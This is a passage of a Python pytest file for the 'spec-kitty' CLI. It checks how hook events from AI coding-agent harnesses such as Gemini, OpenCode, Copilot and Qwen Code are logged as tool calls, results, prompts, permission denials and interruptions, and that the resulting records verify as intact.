    assert "NO_HOOK_EVENTS" not in cli("doctor", "--json").out


def test_a_record_can_be_closed_under_a_name_that_is_no_builtin_of_the_shell(run: str, cli: Cli) -> None:
    done = cli("profile-invocation", "close", "--invocation-id", run, "--outcome", "failed", "--json")

    assert (done.code, done.json()["outcome"]) == (0, "failed")


def test_equal_calls_that_are_open_together_have_ids_of_their_own(hook: Hook, chartered: Path, cli: Cli) -> None:
    cli("init")
    call = {**shell_call(chartered), "tool_input": {"command": "spec-kitty do 'implement WP03' --json"}}
    hook(call, "gemini")
    answer = cli("do", "implement WP03", "--json", env={"GEMINI_CLI": "1"})
    told = {"hook_event_name": "AfterTool", "tool_response": {"llmContent": answer.out}}
    hook({**call, **told}, "gemini")
    told_events = ["BeforeTool", "BeforeTool", "AfterTool", "AfterTool", "BeforeTool", "AfterTool", "AfterTool"]
    for second, event in enumerate(told_events):  # the last one's begin was lost
        hook(shell_call(chartered, event, f"2026-11-22T10:00:0{second}.000Z"), "gemini")
    names = [(e["event"], e["call_id"].partition("#")[2]) for e in events(chartered, answer.json()["invocation_id"])][
        2:
    ]

    assert names == [
        ("tool_call", ""),
        ("tool_call", "2"),
        ("tool_result", ""),
        ("tool_result", "2"),
        ("tool_call", ""),
        ("tool_result", ""),
        ("tool_result", "3"),
    ]


@pytest.mark.parametrize(
    ("error", "status"),
    [
        ("The user rejected permission to use this specific tool call.", "denied"),
        ("The user has specified a rule which prevents you from using this specific tool call. …", "denied"),
        ("Could not find oldString in the file", "error"),
    ],
)
def test_what_opencode_tells_of_a_call_that_failed_ends_it(
    error: str, status: str, hook: Hook, chartered: Path, cli: Cli
) -> None:
    env = {"OPENCODE": "1", "SPEC_KITTY_OPENCODE_SESSION": SESSION}
    run = cli("do", "implement WP03", "--json", env=env).json()["invocation_id"]
    hook({**pre(chartered), "hook_event_name": "tool.execute.before"}, "opencode")
    hook({**pre(chartered), "hook_event_name": "tool.execute.failed", "error": error}, "opencode")

    told = events(chartered, run)
    assert [e["status"] for e in told if e["event"] == "tool_result"] == [status]
    # Who refused is not told: what a harness says of a permission is a claim.
    claims = [(e["decision"], e["identity"], e["call_id"]) for e in told if e["event"] == "approval"]
    assert claims == ([("deny", "claim", told[0]["call_id"])] if status == "denied" else [])


def test_a_prompt_that_opencode_is_told_while_a_command_runs_ends_no_call(
    hook: Hook, chartered: Path, cli: Cli
) -> None:
    """Nor does it end when a person interrupts the turn: its own end comes after that."""
    env = {"OPENCODE": "1", "SPEC_KITTY_OPENCODE_SESSION": SESSION}
    run = cli("do", "implement WP03", "--json", env=env).json()["invocation_id"]
    error = {"name": "MessageAbortedError", "data": {"message": "Aborted"}}
    session = {"session_id": SESSION, "cwd": str(chartered)}
    hook({**pre(chartered), "hook_event_name": "tool.execute.before"}, "opencode")
    hook({**session, "hook_event_name": "chat.message", "prompt": "and that", "prompt_id": "m2"}, "opencode")
    hook({**session, "hook_event_name": "session.error", "error": error, "timestamp": "1-2-3"}, "opencode")
    told = [(line["event"], line.get("change")) for line in events(chartered, run)]

    assert told == [("tool_call", None), ("prompt", None), ("session_change", "interrupted")]


def test_a_session_that_opencode_runs_again_ends_the_calls_its_program_died_in(
    hook: Hook, chartered: Path, cli: Cli
) -> None:
    env = {"OPENCODE": "1", "SPEC_KITTY_OPENCODE_SESSION": SESSION}
    run = cli("do", "implement WP03", "--json", env=env).json()["invocation_id"]
    session = {"session_id": SESSION, "cwd": str(chartered), "source": "resume"}
    hook({**pre(chartered), "hook_event_name": "tool.execute.before"}, "opencode")
    hook({**session, "hook_event_name": "chat.message", "prompt": "go on", "prompt_id": "m2"}, "opencode")
    told = [(line["event"], line.get("status")) for line in events(chartered, run)]

    assert told == [("tool_call", None), ("tool_result", "unknown"), ("prompt", None)]


def test_a_do_under_a_session_that_only_copilots_commands_are_told_is_found_by_what_it_printed(
    hook: Hook, chartered: Path, cli: Cli
) -> None:
    cli("init")
    told: dict[str, Any] = {
        "session_id": "s1",
        "cwd": str(chartered),
        "tool_name": "Bash",
        "timestamp": "2026-11-22T10:00:00.000Z",
    }
    told["tool_input"] = {"command": "spec-kitty do 'implement WP03' --json"}
    hook({**told, "hook_event_name": "PreToolUse"}, "copilot")
    answer = cli("do", "implement WP03", "--json", env={"COPILOT_AGENT_SESSION_ID": "of-no-hook"})
    printed = {"result_type": "success", "text_result_for_llm": answer.out}
    hook({**told, "hook_event_name": "PostToolUse", "tool_result": printed}, "copilot")

    assert [e["event"] for e in events(chartered, answer.json()["invocation_id"])] == ["tool_call", "tool_result"]


def test_a_harness_that_ends_a_turn_twice_leaves_a_record_that_verifies(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    """Qwen Code sends `Stop` twice for one prompt, with more tokens the second time, where a subagent ends between."""
    stop = {"hook_event_name": "Stop", "prompt_id": "p1", "last_assistant_message": "Done."}
    for tokens in ({"input": 100, "output": 10}, {"input": 260, "output": 31}):
        hook({**pre(chartered, "Bash"), **stop, "tokens": tokens})

    told = [line for line in events(chartered, run) if line["event"] in ("turn", "capture_gap")]
    done = cli("invocations", "verify", run, "--json")
    assert [line["event"] for line in told] == ["turn", "capture_gap"]
    assert "tokens" in told[1]["message"] and "260" in told[1]["message"]
    assert (done.code, done.json()["verdict"]) == (0, "intact")


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_an_end_of_masking_that_is_dropped_comes_again() -> None:
    """Else a text whose alarm falls into a destructor would be masked for as long as that takes."""
    call: Any = SimpleNamespace(deadline=0.0)  # long past: the alarm comes at once
    with pytest.raises(TooSlow):
        run_in_time(call, wait_behind_a_destroyed_object)
